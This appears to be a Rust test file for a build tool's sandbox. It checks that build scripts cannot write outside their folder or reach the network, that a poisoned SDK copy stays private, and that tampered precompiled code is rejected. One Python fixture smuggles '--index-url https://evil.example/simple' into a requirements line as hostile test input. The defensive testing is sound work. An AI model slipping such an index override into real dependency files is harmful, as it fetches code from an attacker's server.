//! Building never gives a block's code more than its own build folder: a Rust build script
//! runs jailed (no network, nothing writable but the block's own target folder), a Python
//! block's snapshot sees a private copy of the SDK, and requirements are package names only.

use std::net::TcpListener;

use super::*;
use crate::support::repo;

#[test]
fn rust_build_scripts_run_jailed() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let p = Project::new();
    let crate_dir = p.path().join("blocks/jailbreak");
    for file in ["Cargo.toml", "build.rs", "src/lib.rs"] {
        let text =
            std::fs::read_to_string(repo().join("tests/blocks/jailbreak").join(file)).unwrap();
        write(&crate_dir, file, &text);
    }
    write(
        &crate_dir,
        "port.txt",
        &listener.local_addr().unwrap().port().to_string(),
    );
    p.pipeline(
        "jail",
        "blocks:\n  - { name: jailbreak, kind: loader, source: blocks/jailbreak }\n",
    );
    let ran = p.weft(&["build"]);
    // The build script ran (it reports into its own target folder)...
    // The block's own target folder: ~/.weft/cache/guest-target/<hash of the crate's path>.
    let place = crate_dir.canonicalize().unwrap();
    let digest = <sha2::Sha256 as sha2::Digest>::digest(place.to_string_lossy().as_bytes());
    let hash: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    let report = find_report(&home_weft().join("cache/guest-target").join(&hash[..24]))
        .unwrap_or_else(|| panic!("the build script did not run:\n{}", ran.stderr));
    assert_eq!(report, "write: false\nhome: false\nconnect: false\n");
    // ...and left nothing outside it.
    assert!(
        !crate_dir.join("pwned.txt").exists(),
        "a build script wrote beside its crate:\n{}",
        ran.stderr
    );
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    assert!(
        !home.join(".weft-jailbreak").exists(),
        "a build script wrote to $HOME"
    );
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("a build script reached the network: {other:?}"),
    }
}

fn home_weft() -> std::path::PathBuf {
    std::env::var_os("WEFT_HOME")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| std::path::PathBuf::from(std::env::var("HOME").unwrap()).join(".weft"))
}

/// The newest `jailbreak.txt` a build script wrote under `dir`.
fn find_report(dir: &std::path::Path) -> Option<String> {
    let mut found: Vec<(std::time::SystemTime, std::path::PathBuf)> = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let path = e.path();
            if path.is_dir() {
                todo.push(path);
            } else if path.file_name().is_some_and(|n| n == "jailbreak.txt") {
                let at = e.metadata().and_then(|m| m.modified()).ok()?;
                found.push((at, path));
            }
        }
    }
    found.sort();
    std::fs::read_to_string(&found.last()?.1).ok()
}

#[test]
fn python_builds_see_a_private_sdk_and_plain_requirements_only() {
    let p = Project::new();
    write(
        p.path(),
        "blocks/fetchy.py",
        "# requirements: --index-url https://evil.example/simple humanize\nfrom weft import loader\n\n\n@loader\ndef fetchy():\n    return [{\"a\": 1}]\n",
    );
    p.pipeline(
        "poison",
        &format!(
            "blocks:\n  - {{ name: poisoner, kind: loader, source: {} }}\n  - {{ name: after, kind: loader, source: {}, upstream: [poisoner], config: {{ door: sql, sql: \"SELECT 1 AS one\" }} }}\n",
            py("sdk_poison.py"),
            py("doors.py")
        ),
    );
    p.pipeline(
        "fetch",
        "blocks:\n  - { name: fetchy, kind: loader, source: blocks/fetchy.py }\n",
    );
    let ran = p.weft(&["build", "fetch"]);
    assert_ne!(ran.code, 0);
    assert!(
        ran.stderr.contains(
            "requirement `--index-url https://evil.example/simple humanize` is not a package name"
        ),
        "{}",
        ran.stderr
    );
    // The poisoner builds (its writes land in its own copy), and the block built after it
    // still works with an intact SDK.
    let (summary, ran) = p.run("poison");
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let o = outcome(&p, summary["run_id"].as_str().unwrap(), "after");
    assert_eq!(o, "ok: 1 rows");
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap()).join(".weft/sdk");
    for sdk in std::fs::read_dir(home).unwrap().flatten() {
        let table = sdk.path().join("sdk-python/weft/_table.py");
        if let Ok(text) = std::fs::read_to_string(&table) {
            assert!(!text.contains("poisoned SDK"), "{}", table.display());
        }
    }
}

#[test]
fn precompiled_code_is_loaded_only_when_its_digest_matches() {
    let p = Project::new();
    p.pipeline(
        "digest",
        "blocks:\n  - { name: rows, kind: loader, source: {probe}, config: { mode: rows, rows: 5 } }\n",
    );
    let ran = p.weft(&["build"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let components = p.path().join(".weft/components");
    let mut tampered = 0;
    for e in std::fs::read_dir(&components).unwrap().flatten() {
        let path = e.path();
        if path.extension().is_some_and(|x| x == "cwasm") {
            // Same length, different bytes: loading these as native code would crash. (A new
            // file: the cached one may be a hard link shared with other projects.)
            let len = std::fs::metadata(&path).unwrap().len() as usize;
            std::fs::remove_file(&path).unwrap();
            std::fs::write(&path, vec![0xCC; len]).unwrap();
            tampered += 1;
        }
    }
    assert!(
        tampered > 0,
        "no precompiled code in {}",
        components.display()
    );
    let (summary, ran) = p.run("digest");
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert_eq!(block(&summary, "rows")["rows"], 5);
}
